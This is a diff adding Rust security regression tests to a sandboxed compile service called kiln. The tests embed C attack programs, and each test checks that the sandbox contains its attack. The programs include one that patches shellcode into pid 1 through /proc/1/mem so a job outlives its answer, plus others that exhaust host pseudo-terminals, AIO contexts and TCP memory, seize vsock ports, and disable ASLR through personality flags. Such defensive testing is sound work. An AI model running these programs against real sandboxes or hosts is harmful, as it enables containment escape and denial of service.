@@ -23,7 +23,7 @@ use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, Instant};
 
 use common::*;
-use kiln::protocol::{CompileCommand, JobComplete};
+use kiln::protocol::{CompileCommand, JobComplete, RunJobHttpRequest, RunJobResult};
 use nix::fcntl::OFlag;
 use nix::sys::stat::Mode;
 use nix::unistd::UnlinkatFlags;
@@ -854,6 +854,221 @@ async fn job_cannot_see_or_signal_host_processes() {
     assert_compiles(&kiln).await;
 }
 
+// --- 10b. a job ends when kiln says so (issue 27, finding 1) -----------------
+
+/// Subverts the sandbox's pid 1 so that the job outlives its answer: opens
+/// `/proc/1/mem` for writing and, at the address pid 1's blocked `wait()` returns
+/// to (`/proc/1/syscall`), writes x86-64 code that clears its parent-death signal,
+/// tells bubblewrap's monitor "exit 0" through the eventfd pid 1 holds, and then
+/// pauses forever. A forked child keeps the job's stdout open for `argv[2]`
+/// seconds. Prints how far it got.
+const SUBVERT_PID1_C: &str = r#"
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+int main(int argc, char **argv) {
+    int linger = argc > 2 ? atoi(argv[2]) : 60;
+    int mem = open("/proc/1/mem", O_RDWR);
+    if (mem < 0) { printf("open /proc/1/mem: %s\n", strerror(errno)); return 0; }
+    int evfd = -1;
+    DIR *fds = opendir("/proc/1/fd");
+    struct dirent *e;
+    while (fds && (e = readdir(fds))) {
+        char path[64], target[64] = {0};
+        snprintf(path, sizeof path, "/proc/1/fd/%s", e->d_name);
+        if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, "eventfd")) evfd = atoi(e->d_name);
+    }
+    char line[512] = {0};
+    FILE *sc = fopen("/proc/1/syscall", "r");
+    if (!sc || !fgets(line, sizeof line, sc)) { printf("no /proc/1/syscall\n"); return 0; }
+    char *last = strrchr(line, ' ');
+    unsigned long long pc = strtoull(last ? last + 1 : line, NULL, 16);
+    unsigned char code[] = {
+        0xbf, 1, 0, 0, 0, 0x31, 0xf6, 0xb8, 157, 0, 0, 0, 0x0f, 0x05,   /* prctl(PR_SET_PDEATHSIG, 0) */
+        0xbf, 0, 0, 0, 0, 0x48, 0x8d, 0x35, 0x15, 0, 0, 0,            /* edi = evfd; rsi = &one */
+        0xba, 8, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0x0f, 0x05,               /* write(evfd, &one, 8) */
+        0xb8, 34, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7,                    /* for (;;) pause(); */
+        1, 0, 0, 0, 0, 0, 0, 0,                                       /* one: "exited 0" */
+    };
+    memcpy(code + 15, &evfd, 4);
+    if (pwrite(mem, code, sizeof code, (off_t)pc) != (ssize_t)sizeof code) {
+        printf("pwrite: %s\n", strerror(errno));
+        return 0;
+    }
+    printf("pid 1 patched at %llx, eventfd %d\n", pc, evfd);
+    fflush(stdout);
+    if (fork() == 0) {
+        setsid();
+        for (int i = 0; i < linger; i++) sleep(1);
+        _exit(0);
+    }
+    return 0;
+}
+"#;
+
+#[actix_rt::test]
+async fn a_job_that_subverts_pid_1_does_not_outlive_its_answer() {
+    // A short timeout: on a kiln the attack works on, the job's answer is the
+    // timeout's, while the lingering process (60 s) still runs.
+    let kiln = Kiln::start("[kiln.jobs]\ntimeout_secs = 5\n");
+    let m = marker("subvert");
+    let program = static_program("subvert_pid1", SUBVERT_PID1_C);
+    let client = kiln.client();
+    let job_id = assign_and_submit(&client, gcc_toolchain()).await;
+    let request = RunJobHttpRequest { command: command("./subvert", &[&m, "60"], "/work"), outputs: vec![] };
+    let inputs = programs(&[("subvert", &program)]);
+    let answer = tokio::time::timeout(TEST_LIMIT, client.run_job(job_id, &token(job_id), &request, &inputs))
+        .await
+        .expect("kiln answered the job");
+    let left: Vec<Ids> = job_processes(&m).into_iter().filter_map(Ids::of).collect();
+    let shown = match &answer {
+        Ok(RunJobResult::Complete(done)) => both(done),
+        other => format!("{other:?}"),
+    };
+    // Leave nothing behind whatever happened, before asserting.
+    for ids in &left {
+        let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(ids.pid), nix::sys::signal::SIGKILL);
+    }
+    assert!(left.is_empty(), "the job's processes outlived its answer: {left:?}\n{shown}");
+    match answer {
+        Ok(RunJobResult::Complete(done)) => assert_eq!(done.output.code, 0, "the job ran to its end\n{shown}"),
+        other => panic!("the job was answered as complete, not {other:?}"),
+    }
+    assert_compiles(&kiln).await;
+}
+
+/// A clean stop (SIGTERM) kills and removes every job cgroup of this kiln, the
+/// warm sandboxes' included; only a killed kiln leaves them, for the next start.
+#[actix_rt::test]
+async fn a_clean_stop_removes_the_job_cgroups() {
+    let mut kiln = Kiln::start(JOB_TIMEOUT);
+    // This kiln's instance in each hierarchy it may use.
+    let instance_name = format!("kiln-{}-0", kiln.pid());
+    let instances: Vec<PathBuf> = ["pids", "memory", "freezer", "cpu"]
+        .iter()
+        .filter_map(|controller| Some(cgroup_dir(kiln.pid(), controller)?.join("kiln-jobs").join(&instance_name)))
+        .collect();
+    let instance = instances[0].clone();
+    assert_compiles(&kiln).await;
+    // The pool prepares the next sandboxes ahead, each in a cgroup of its own.
+    let warm = wait_for(Duration::from_secs(10), || {
+        let children = walk_dirs(&instance, 100).len() - 1;
+        (children > 0).then_some(children)
+    })
+    .await;
+    assert!(warm.is_some(), "warm sandboxes have cgroups under {instance:?}");
+
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(kiln.pid()), nix::sys::signal::SIGTERM).unwrap();
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let status = loop {
+        if let Some(status) = kiln.child.try_wait().unwrap() {
+            break status;
+        }
+        assert!(Instant::now() < deadline, "kiln did not stop within 60 s of SIGTERM");
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    assert!(status.success(), "a clean stop exits 0: {status:?}");
+    let left: Vec<&PathBuf> = instances.iter().filter(|dir| dir.exists()).collect();
+    assert!(left.is_empty(), "job cgroups outlived a clean stop: {left:?}");
+}
+
+// --- 10c. pseudo-terminals: a job's own bounded share (issue 27, finding 8) ---
+
+/// Opens pseudo-terminals until the kernel refuses, holds them for 2 s (for the
+/// host to look) and prints how many it got.
+const PTY_HOG_C: &str = r#"
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+int main(void) {
+    int got = 0, err = 0;
+    for (int i = 0; i < 5000; i++) {
+        int fd = posix_openpt(O_RDWR | O_NOCTTY);
+        if (fd < 0) { err = errno; break; }
+        got++;
+    }
+    printf("ptys %d (%s)\n", got, strerror(err));
+    fflush(stdout);
+    sleep(2);
+    return 0;
+}
+"#;
+
+/// The host's pseudo-terminals in use, all devpts instances together.
+fn ptys_in_use() -> u64 {
+    std::fs::read_to_string("/proc/sys/kernel/pty/nr").unwrap().trim().parse().unwrap()
+}
+
+/// What a sandbox's devpts allows (`MAX_PTYS` in src/sandbox/overlay/namespace.rs).
+const MAX_PTYS: u64 = 16;
+
+#[actix_rt::test]
+async fn a_job_gets_a_bounded_share_of_the_hosts_ptys() {
+    let kiln = Kiln::start(JOB_TIMEOUT);
+    let program = static_program("pty_hog", PTY_HOG_C);
+    let before = ptys_in_use();
+    let client = kiln.client();
+    let job = run(&client, gcc_toolchain(), command("./pty_hog", &[], "/work"), &[], programs(&[("pty_hog", &program)]));
+    let (done, samples) = sampling(TEST_LIMIT, job, ptys_in_use).await;
+    let most = samples.iter().copied().max().unwrap_or(before);
+    let out = stdout(&done);
+    println!("ptys in use before {before}, at most {most}\n{}", both(&done));
+    let got: u64 = out.split_whitespace().nth(1).and_then(|n| n.parse().ok()).expect("the job counted its ptys");
+    assert!(got > 0, "a job still gets a pseudo-terminal\n{}", both(&done));
+    assert!(got <= MAX_PTYS, "the job held {got} pseudo-terminals\n{}", both(&done));
+    // Other processes on the host may open a few meanwhile.
+    assert!(most <= before + MAX_PTYS + 8, "the host's ptys in use went from {before} to {most}");
+    assert_compiles(&kiln).await;
+}
+
+// --- 10d. kiln's own memory per job (issue 27, finding 6) ---------------------
+
+/// Leaves a sparse 300 MiB output: nothing on disk, all of it zeros to read.
+const SPARSE_OUTPUT_C: &str = r#"
+#include <fcntl.h>
+#include <unistd.h>
+
+int main(void) {
+    int fd = open("big.o", O_CREAT | O_WRONLY | O_TRUNC, 0644);
+    return fd < 0 || ftruncate(fd, 300L << 20) != 0;
+}
+"#;
+
+/// The peak resident memory of `pid` (`VmHWM`), in bytes.
+fn peak_rss(pid: i32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let kib = status.lines().find_map(|l| l.strip_prefix("VmHWM:")).unwrap().trim().trim_end_matches("kB").trim();
+    kib.parse::<u64>().unwrap() * 1024
+}
+
+#[actix_rt::test]
+async fn a_large_output_costs_kiln_its_compressed_size_only() {
+    const OUTPUT: u64 = 300 << 20;
+    let kiln = Kiln::start(JOB_TIMEOUT);
+    // Toolchain unpacked, sandboxes warm: what is left to grow is the job's own.
+    assert_compiles(&kiln).await;
+    let before = peak_rss(kiln.pid());
+    let program = static_program("sparse_output", SPARSE_OUTPUT_C);
+    let inputs = programs(&[("sparse", &program)]);
+    let done = run(&kiln.client(), gcc_toolchain(), command("./sparse", &[], "/work"), &["big.o"], inputs).await;
+    let after = peak_rss(kiln.pid());
+    assert_eq!(done.output.code, 0, "{}", both(&done));
+    let (_, data) = done.outputs.iter().find(|(name, _)| name == "big.o").expect("the output came back");
+    assert_eq!(data.uncompressed_len(), OUTPUT);
+    println!("kiln's peak RSS {} -> {} MiB; the output compressed to {} bytes", before >> 20, after >> 20, data.compressed().len());
+    assert!(after < before + (64 << 20), "a 300 MiB output took kiln's peak RSS from {} to {} MiB", before >> 20, after >> 20);
+}
+
 // --- 11. no cgroups for jobs: refuse, unless the config opts out --------------
 
 /// Runs in kiln's forked process: a mount namespace of its own where
@@ -938,4 +1153,262 @@ fn kiln_check_on_a_cgroup_v2_host_changes_nothing() {
         .unwrap_or_default();
     assert!(!after.contains(std::ffi::OsStr::new("kiln-server")), "kiln check moved processes");
     assert!(after.is_subset(&before), "kiln check made cgroups: {:?}", after.difference(&before).collect::<Vec<_>>());
+}
+
+// --- 14. TCP buffers count against the job's memory (issue 27, finding 4) -----
+
+/// The host-wide TCP memory (`/proc/net/sockstat`, `TCP: ... mem N`), in pages: one
+/// pool for every socket on the host, whatever its namespace.
+fn host_tcp_mem_pages() -> u64 {
+    let text = std::fs::read_to_string("/proc/net/sockstat").unwrap();
+    let line = text.lines().find(|l| l.starts_with("TCP:")).unwrap();
+    let mut words = line.split_whitespace();
+    words.find(|w| *w == "mem").and_then(|_| words.next()).and_then(|n| n.parse().ok()).unwrap()
+}
+
+/// A cgroup file's number, if it can be read.
+fn cgroup_number(dir: &Path, file: &str) -> Option<u64> {
+    std::fs::read_to_string(dir.join(file)).ok()?.trim().parse().ok()
+}
+
+/// A job under a 64 MiB memory limit opens loopback connections and writes 256 MiB
+/// without reading (`tests/programs/tcp_hoard.c`). On cgroup v1 socket buffers are
+/// outside `memory.limit_in_bytes`: before kiln set the job cgroup's
+/// `memory.kmem.tcp.limit_in_bytes`, the host's TCP memory grew by the whole
+/// 256 MiB. Now the job's part of the host's pool stays within its memory limit.
+#[actix_rt::test]
+async fn tcp_buffers_are_charged_to_the_jobs_memory_limit() {
+    const LIMIT: u64 = 64 << 20;
+    /// Others' sockets on the host, and the first buffer of each connection, which
+    /// the kernel grants even over the limit (tcp_wmem[0]) so a socket makes progress.
+    const SLACK: u64 = 32 << 20;
+    let kiln = Kiln::start("[kiln.jobs]\nmax_memory_bytes = 67108864\ntimeout_secs = 30\n");
+    let m = marker("tcp");
+    let hoard = static_program("tcp_hoard", include_str!("programs/tcp_hoard.c"));
+    let client = kiln.client();
+    let before = host_tcp_mem_pages();
+    let job = run(
+        &client,
+        gcc_toolchain(),
+        command("/work/tcp_hoard", &[&m, "256"], "/work"),
+        &[],
+        programs(&[("tcp_hoard", &hoard)]),
+    );
+    let (done, samples) = sampling(TEST_LIMIT, job, || {
+        let cgroups: Vec<(PathBuf, Option<u64>, Option<u64>)> = job_processes(&m)
+            .into_iter()
+            .filter_map(|pid| cgroup_dir(pid, "memory"))
+            .map(|dir| {
+                let limit = cgroup_number(&dir, "memory.kmem.tcp.limit_in_bytes");
+                let used = cgroup_number(&dir, "memory.kmem.tcp.max_usage_in_bytes");
+                (dir, limit, used)
+            })
+            .collect();
+        (host_tcp_mem_pages(), cgroups)
+    })
+    .await;
+    println!("{}", both(&done));
+    assert_eq!(done.output.code, 0, "the attack ran to its end\n{}", both(&done));
+    assert!(stdout(&done).contains("held"), "{}", both(&done));
+    let most = samples.iter().map(|(pages, _)| *pages).max().unwrap_or(0);
+    let grew = most.saturating_sub(before) * 4096;
+    println!("host TCP memory: {before} pages before, {most} at most: grew {} MiB", grew >> 20);
+    assert!(
+        grew <= LIMIT + SLACK,
+        "the job pinned {} MiB of the host's TCP memory under a {} MiB limit",
+        grew >> 20,
+        LIMIT >> 20
+    );
+    let cgroups: Vec<_> = samples.into_iter().flat_map(|(_, c)| c).collect();
+    assert!(!cgroups.is_empty(), "the job's process was seen on the host");
+    for (dir, limit, _) in &cgroups {
+        assert!(limit.is_some_and(|l| l <= LIMIT), "{}: memory.kmem.tcp.limit_in_bytes {limit:?}", dir.display());
+    }
+    let charged = cgroups.iter().filter_map(|(_, _, used)| *used).max().unwrap_or(0);
+    assert!(charged > 16 << 20, "the job's sockets were charged to its cgroup: {charged} bytes at most");
+    assert_compiles(&kiln).await;
+}
+
+// --- 15. the seccomp filter: vsock, kernel AIO, mount inspection, personas ---
+// (issue 27, findings 5, 8 and 9)
+
+/// Binds and listens on vsock port argv[1] (any CID), holds it 3 s. Also tries
+/// the family with garbage above the `int` (the kernel reads the low 32 bits).
+const VSOCK_LISTEN_C: &str = r#"
+#include <errno.h>
+#include <linux/vm_sockets.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    long wide = syscall(SYS_socket, 0xffffffff00000000L | AF_VSOCK, SOCK_STREAM, 0);
+    printf("wide socket %ld errno %d\n", wide, wide < 0 ? errno : 0);
+    int s = socket(AF_VSOCK, SOCK_STREAM, 0);
+    if (s < 0) { printf("socket errno %d\n", errno); return 0; }
+    struct sockaddr_vm addr = {0};
+    addr.svm_family = AF_VSOCK;
+    addr.svm_cid = VMADDR_CID_ANY;
+    addr.svm_port = (unsigned)atoi(argv[1]);
+    int bound = -1;
+    for (int i = 0; i < 50 && bound != 0; i++) {
+        bound = bind(s, (struct sockaddr *)&addr, sizeof addr);
+        if (bound != 0) usleep(20000);
+    }
+    if (bound != 0 || listen(s, 1) != 0) { printf("bind/listen errno %d\n", errno); return 0; }
+    printf("listening on %u\n", addr.svm_port);
+    fflush(stdout);
+    sleep(3);
+    return 0;
+}
+"#;
+
+/// Whether the host binds vsock `port` (any CID) at this moment; it lets go at once.
+fn host_binds_vsock(port: u32) -> Result<(), nix::errno::Errno> {
+    use nix::sys::socket::{bind, socket, AddressFamily, SockFlag, SockType, VsockAddr};
+    let fd = socket(AddressFamily::Vsock, SockType::Stream, SockFlag::SOCK_CLOEXEC, None)?;
+    bind(fd.as_raw_fd(), &VsockAddr::new(nix::libc::VMADDR_CID_ANY, port))
+}
+
+#[actix_rt::test]
+async fn a_job_cannot_take_a_vsock_port_from_the_host() {
+    let port = 40_000 + std::process::id() % 20_000;
+    if let Err(e) = host_binds_vsock(port) {
+        eprintln!("\n!!!!! SKIPPING: this host has no vsock ({e}) !!!!!\n");
+        return;
+    }
+    let kiln = Kiln::start(JOB_TIMEOUT);
+    let program = static_program("vsock_listen", VSOCK_LISTEN_C);
+    let client = kiln.client();
+    let cmd = command("./vsock_listen", &[&port.to_string()], "/work");
+    let job = run(&client, gcc_toolchain(), cmd, &[], programs(&[("vsock_listen", &program)]));
+    // The host binds the port (and lets it go) every 50 ms while the job runs.
+    let (done, samples) = sampling(TEST_LIMIT, job, || host_binds_vsock(port)).await;
+    let out = stdout(&done);
+    println!("{}\nhost binds: {samples:?}", both(&done));
+    let taken = samples.iter().filter(|s| **s == Err(nix::errno::Errno::EADDRINUSE)).count();
+    assert_eq!(taken, 0, "the job held vsock port {port}: the host's bind failed {taken} times\n{out}");
+    assert!(samples.iter().any(Result::is_ok), "the host bound the port while the job ran: {samples:?}");
+    let refused = format!("errno {}", nix::libc::EAFNOSUPPORT);
+    assert!(out.contains(&format!("socket {refused}")), "the job's vsock socket was refused\n{out}");
+    assert!(out.contains(&format!("wide socket -1 {refused}")), "AF_VSOCK with high bits was refused\n{out}");
+    assert_compiles(&kiln).await;
+}
+
+/// Sets up kernel AIO contexts until io_setup fails (halving the size on each
+/// failure; at most 200 calls), then holds them 3 s.
+const AIO_HOG_C: &str = r#"
+#include <errno.h>
+#include <linux/aio_abi.h>
+#include <stdio.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+int main(void) {
+    long taken = 0;
+    int last = 0;
+    unsigned n = 65536;
+    for (int calls = 0; calls < 200 && n > 0; calls++) {
+        aio_context_t ctx = 0;
+        if (syscall(SYS_io_setup, n, &ctx) == 0) taken += n;
+        else { last = errno; n /= 2; }
+    }
+    printf("aio taken %ld errno %d\n", taken, last);
+    fflush(stdout);
+    sleep(3);
+    return 0;
+}
+"#;
+
+fn aio_in_use() -> u64 {
+    std::fs::read_to_string("/proc/sys/fs/aio-nr").unwrap().trim().parse().unwrap()
+}
+
+#[actix_rt::test]
+async fn a_job_cannot_take_the_hosts_aio_budget() {
+    let kiln = Kiln::start(JOB_TIMEOUT);
+    let program = static_program("aio_hog", AIO_HOG_C);
+    let before = aio_in_use();
+    let client = kiln.client();
+    let job = run(&client, gcc_toolchain(), command("./aio_hog", &[], "/work"), &[], programs(&[("aio_hog", &program)]));
+    let (done, samples) = sampling(TEST_LIMIT, job, aio_in_use).await;
+    let most = samples.iter().copied().max().unwrap_or(before);
+    println!("fs.aio-nr before {before}, at most {most} of {}\n{}", 
+        std::fs::read_to_string("/proc/sys/fs/aio-max-nr").unwrap().trim(), both(&done));
+    assert_eq!(most, before, "the job took {} of the host's fs.aio-max-nr", most.saturating_sub(before));
+    let out = stdout(&done);
+    assert!(out.contains(&format!("aio taken 0 errno {}", nix::libc::ENOSYS)), "io_setup was refused\n{out}");
+    assert_compiles(&kiln).await;
+}
+
+/// Calls the mount-inspection and mount API calls the filter did not know, and
+/// personas that undo exploit mitigations (last, so a persona that was set stays
+/// for the host to see); prints each result; then holds 2 s (argv[1] is the
+/// test's marker, to find the process on the host).
+const INSPECT_C: &str = r#"
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <sys/personality.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+struct mnt_id_req { unsigned size, spare; unsigned long long mnt_id, param, mnt_ns_id; };
+static void report(const char *what, long r) { printf("%s %ld errno %d\n", what, r, r < 0 ? errno : 0); }
+int main(void) {
+    unsigned long long ids[64], buf[512];
+    struct mnt_id_req req = { 32, 0, 0xffffffffffffffffULL /* LSMT_ROOT */, 0, 0 };
+    report("listmount", syscall(458, &req, ids, 64, 0));
+    req.mnt_id = ids[0];
+    report("statmount", syscall(457, &req, buf, sizeof buf, 0));
+    unsigned long long attr[4] = {0};
+    report("open_tree_attr", syscall(467, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */, attr, sizeof attr));
+    report("linux32", syscall(SYS_personality, PER_LINUX32));
+    report("query", syscall(SYS_personality, 0xffffffff));
+    report("linux", syscall(SYS_personality, PER_LINUX));
+    report("no_randomize", syscall(SYS_personality, ADDR_NO_RANDOMIZE));
+    report("linux32_no_randomize", syscall(SYS_personality, PER_LINUX32 | ADDR_NO_RANDOMIZE));
+    report("read_implies_exec", syscall(SYS_personality, READ_IMPLIES_EXEC | ADDR_NO_RANDOMIZE));
+    fflush(stdout);
+    sleep(2);
+    return 0;
+}
+"#;
+
+#[actix_rt::test]
+async fn mount_inspection_and_mitigation_undoing_personas_are_refused() {
+    let kiln = Kiln::start(JOB_TIMEOUT);
+    let m = marker("inspect");
+    let program = static_program("inspect", INSPECT_C);
+    let client = kiln.client();
+    let job = run(&client, gcc_toolchain(), command("./inspect", &[&m], "/work"), &[], programs(&[("inspect", &program)]));
+    // The job's personas as the host's /proc shows them.
+    let (done, samples) = sampling(TEST_LIMIT, job, || {
+        job_processes(&m)
+            .into_iter()
+            .filter_map(|pid| std::fs::read_to_string(format!("/proc/{pid}/personality")).ok())
+            .filter_map(|p| u32::from_str_radix(p.trim(), 16).ok())
+            .collect::<Vec<u32>>()
+    })
+    .await;
+    let out = stdout(&done);
+    println!("{}\npersonas seen: {samples:?}", both(&done));
+    let personas: Vec<u32> = samples.into_iter().flatten().collect();
+    assert!(!personas.is_empty(), "the job's process was seen on the host");
+    let undoing = nix::libc::ADDR_NO_RANDOMIZE as u32 | 0x0040_0000 /* READ_IMPLIES_EXEC */;
+    assert!(personas.iter().all(|p| p & undoing == 0), "a persona undid a mitigation: {personas:x?}");
+    let (eperm, enosys) = (nix::libc::EPERM, nix::libc::ENOSYS);
+    for refused in [
+        format!("listmount -1 errno {enosys}"),
+        format!("statmount -1 errno {enosys}"),
+        format!("open_tree_attr -1 errno {eperm}"),
+        format!("no_randomize -1 errno {eperm}"),
+        format!("linux32_no_randomize -1 errno {eperm}"),
+        format!("read_implies_exec -1 errno {eperm}"),
+    ] {
+        assert!(out.lines().any(|l| l == refused), "expected `{refused}`\n{out}");
+    }
+    // Docker's personas still work (the query answers the current one).
+    for allowed in ["linux32 0 errno 0", "query 8 errno 0", "linux 8 errno 0"] {
+        assert!(out.lines().any(|l| l == allowed), "expected `{allowed}`\n{out}");
+    }
 }
